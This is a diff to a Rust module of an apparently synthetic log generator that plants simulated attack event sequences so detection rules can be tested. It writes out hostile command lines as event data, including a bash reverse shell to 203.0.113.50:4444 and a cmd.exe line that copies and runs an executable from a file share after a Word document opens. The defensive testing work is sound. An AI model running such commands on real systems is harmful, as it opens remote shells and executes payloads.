@@ -1,9 +1,10 @@
 //! Planted attacks: short event sequences that real Elastic rules detect, hidden in the benign
 //! stream so that tests and benchmarks can check detection end to end.
 //!
-//! Each attack names the rules expected to fire on it (file paths are relative to the
-//! `elastic/detection-rules` repository). Other rules may fire too (attacks look like attacks);
-//! the benign stream is built to stay clear of the listed ones.
+//! Each attack names the rules expected to fire on it: shrike's demo rules (paths starting with
+//! `demo/`, in this repository) and Elastic's (other paths, relative to the
+//! `elastic/detection-rules` repository). Other rules may fire too (attacks look like
+//! attacks); the benign stream is built to stay clear of the listed ones.
 //!
 //! Planted events are never dropped to fit a block and never displaced by `--disorder`, so a
 //! sequence keeps its order and its `maxspan`.
@@ -23,7 +24,8 @@ pub struct AttackInfo {
     pub name: &'static str,
     /// What is planted.
     pub summary: &'static str,
-    /// Rules expected to fire: (rule name, path in `elastic/detection-rules`).
+    /// Rules expected to fire: (rule name, path: `demo/...` in this repository, otherwise in
+    /// `elastic/detection-rules`).
     pub rules: &'static [(&'static str, &'static str)],
 }
 
@@ -33,14 +35,21 @@ pub const ATTACKS: &[AttackInfo] = &[
         name: "remote_scheduled_task",
         summary: "an RPC connection accepted by the Task Scheduler's svchost.exe (both ports >= 49152) \
                   followed within seconds by that same process writing a new task's \
-                  TaskCache\\Tasks\\{GUID}\\Actions registry value (Windows, Sysmon or Defend)",
-        rules: &[("Remote Scheduled Task Creation", "rules/windows/lateral_movement_scheduled_task_target.toml")],
+                  TaskCache\\Tasks\\{GUID}\\Actions registry value and its file under \
+                  C:\\Windows\\System32\\Tasks (Windows, Sysmon or Defend)",
+        rules: &[
+            ("Remote Scheduled Task Creation", "rules/windows/lateral_movement_scheduled_task_target.toml"),
+            ("Scheduled Task Written after an Inbound RPC Connection", "demo/rules/windows/lateral_movement_remote_task_then_file.toml"),
+        ],
     },
     AttackInfo {
         name: "encoded_powershell",
         summary: "powershell.exe started by explorer.exe with -NoP -W Hidden -Enc <base64 download \
                   cradle>, connecting out over HTTP",
-        rules: &[("Suspicious Windows Powershell Arguments", "rules/windows/execution_windows_powershell_susp_args.toml")],
+        rules: &[
+            ("Suspicious Windows Powershell Arguments", "rules/windows/execution_windows_powershell_susp_args.toml"),
+            ("PowerShell with an Encoded Command", "demo/rules/windows/execution_encoded_powershell.toml"),
+        ],
     },
     AttackInfo {
         name: "lsass_access",
@@ -58,6 +67,26 @@ pub const ATTACKS: &[AttackInfo] = &[
         summary: "in an SSH session, openssl passwd -1 -salt ... (a password hash for a backdoor account), \
                   Linux with Defend or auditd",
         rules: &[("OpenSSL Password Hash Generation", "rules/linux/persistence_openssl_passwd_hash_generation.toml")],
+    },
+    AttackInfo {
+        name: "office_child_shell",
+        summary: "WINWORD.EXE opens a document and starts cmd.exe, which copies and runs a binary \
+                  from a file share",
+        rules: &[("Command Shell Spawned by an Office Application", "demo/rules/windows/execution_shell_spawned_by_office.toml")],
+    },
+    AttackInfo {
+        name: "reverse_shell",
+        summary: "a web application starts bash -i >& /dev/tcp/...; the shell connects out and runs \
+                  id, whoami and uname within seconds (Linux with Defend)",
+        rules: &[
+            ("Reverse Shell Activity", "demo/rules/linux/execution_reverse_shell_sequence.toml"),
+            ("Whoami Execution (KQL)", "demo/rules/cross-platform/discovery_whoami_kql.toml"),
+        ],
+    },
+    AttackInfo {
+        name: "sudo_bruteforce",
+        summary: "four failed sudo authentications by one user within 20 seconds (Linux auth log)",
+        rules: &[("Repeated sudo Failures", "demo/rules/linux/discovery_repeated_failed_sudo.toml")],
     },
     AttackInfo {
         name: "cloudtrail_deleted",
@@ -205,8 +234,14 @@ pub(crate) fn plant(g: &mut Gen<'_>, k: u64, t: i64) -> Option<Planted> {
     let candidates = match info.name {
         "remote_scheduled_task" => hosts_where(&|h| h.os == Os::Windows),
         "lsass_access" => hosts_where(&|h| windows_user(h) && h.telemetry == Telemetry::Sysmon),
-        "encoded_powershell" | "shadow_copy_delete" => hosts_where(&windows_user),
+        "encoded_powershell" | "shadow_copy_delete" | "office_child_shell" => {
+            hosts_where(&windows_user)
+        }
         "openssl_passwd" => hosts_where(&|h| h.os == Os::Linux && h.interactive().next().is_some()),
+        "reverse_shell" => hosts_where(&|h| h.os == Os::Linux && h.telemetry == Telemetry::Defend),
+        "sudo_bruteforce" => hosts_where(&|h| {
+            h.os == Os::Linux && h.security_log && h.interactive().next().is_some()
+        }),
         _ => Vec::new(),
     };
     let host = if info.name == "cloudtrail_deleted" {
@@ -230,6 +265,9 @@ pub(crate) fn plant(g: &mut Gen<'_>, k: u64, t: i64) -> Option<Planted> {
         ("lsass_access", Some(h)) => lsass_access(g, h, t, step),
         ("shadow_copy_delete", Some(h)) => shadow_copy_delete(g, h, t, step),
         ("openssl_passwd", Some(h)) => openssl_passwd(g, h, t, step),
+        ("office_child_shell", Some(h)) => office_child_shell(g, h, t, step),
+        ("reverse_shell", Some(h)) => reverse_shell(g, h, t, step),
+        ("sudo_bruteforce", Some(h)) => sudo_bruteforce(g, h, t, step),
         _ => cloudtrail_deleted(g, &mut pick, t, step),
     }
     g.planting = false;
@@ -322,6 +360,122 @@ fn remote_scheduled_task(g: &mut Gen<'_>, h: u32, t: i64, step: i64) {
         &Ev::Reg(sched, &actions, RegValue::Binary),
         true,
     );
+    let task_file = format!(r"C:\Windows\System32\Tasks\{name}");
+    g.emit(
+        h,
+        t + 2 * step + 3,
+        &Ev::File(sched, FileOp::Create, &task_file),
+        true,
+    );
+}
+
+fn office_child_shell(g: &mut Gen<'_>, h: u32, t: i64, step: i64) {
+    let (Some(word), Some(cmd_prog)) = (
+        catalog::program(Os::Windows, "WINWORD.EXE"),
+        catalog::program(Os::Windows, "cmd.exe"),
+    ) else {
+        return;
+    };
+    let user = first_user(g, h);
+    let explorer = resident(g, h, "explorer.exe");
+    let doc = r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\Invoice_2025-0311.docm" /o """#;
+    let word = g.start_proc(h, word, explorer, t, Some(user), Some(doc));
+    let cmd_line = r"C:\Windows\system32\cmd.exe /c copy \\fs01\public\upd.dat %TEMP%\upd.exe && %TEMP%\upd.exe";
+    let cmd = g.start_proc(
+        h,
+        cmd_prog,
+        Some(word),
+        t + step,
+        Some(user),
+        Some(cmd_line),
+    );
+    g.emit(h, t + 2 * step, &Ev::ProcEnd(cmd, 0), true);
+}
+
+const REVSHELL: Program = Program {
+    name: "bash",
+    key: "bash#reverse",
+    path: "/usr/bin/bash",
+    cmds: &["bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"],
+    run_as: RunAs::Service,
+    cwd: "/tmp",
+    ..P
+};
+
+const RECON: [Program; 3] = [
+    Program {
+        name: "id",
+        key: "id",
+        path: "/usr/bin/id",
+        cmds: &["id"],
+        run_as: RunAs::Service,
+        cwd: "/tmp",
+        ..P
+    },
+    Program {
+        name: "whoami",
+        key: "whoami",
+        path: "/usr/bin/whoami",
+        cmds: &["whoami"],
+        run_as: RunAs::Service,
+        cwd: "/tmp",
+        ..P
+    },
+    Program {
+        name: "uname",
+        key: "uname",
+        path: "/usr/bin/uname",
+        cmds: &["uname -a"],
+        run_as: RunAs::Service,
+        cwd: "/tmp",
+        ..P
+    },
+];
+
+fn reverse_shell(g: &mut Gen<'_>, h: u32, t: i64, step: i64) {
+    let parent = resident(g, h, "java")
+        .or_else(|| resident(g, h, "nginx"))
+        .or_else(|| resident(g, h, "cron"));
+    let host = &g.w.hosts[h as usize];
+    let svc = host
+        .accounts
+        .iter()
+        .position(|a| a.kind == RunAs::Service)
+        .unwrap_or(0) as u16;
+    let src = host.ip;
+    static SHELL: Program = REVSHELL;
+    let shell = g.start_proc(h, &SHELL, parent, t, Some(svc), None);
+    let c = Conn {
+        dir: Dir::Egress,
+        udp: false,
+        src,
+        sport: g.rng.range(32_768, 60_999) as u16,
+        dst: [203, 0, 113, 50],
+        dport: 4444,
+        end: false,
+    };
+    g.emit(h, t + 1, &Ev::Net(shell, c), true);
+    static TOOLS: [Program; 3] = RECON;
+    for (i, tool) in TOOLS.iter().enumerate() {
+        let at = t + (i as i64 + 1) * step.min(2_000);
+        let p = g.start_proc(h, tool, Some(shell), at, Some(svc), None);
+        g.emit(h, at + 2, &Ev::ProcEnd(p, 0), true);
+    }
+}
+
+fn sudo_bruteforce(g: &mut Gen<'_>, h: u32, t: i64, step: i64) {
+    let user = first_user(g, h);
+    let name = g.w.hosts[h as usize].accounts[user as usize].name.clone();
+    let cwd = format!("/home/{name}");
+    for i in 0..4 {
+        let ev = Ev::Sudo {
+            user: &name,
+            ok: false,
+            command: "",
+            cwd: &cwd,
+        };
+        g.emit(h, t + i * step.min(5_000), &ev, true);
+    }
 }
 
 fn encoded_powershell(g: &mut Gen<'_>, h: u32, t: i64, step: i64) {
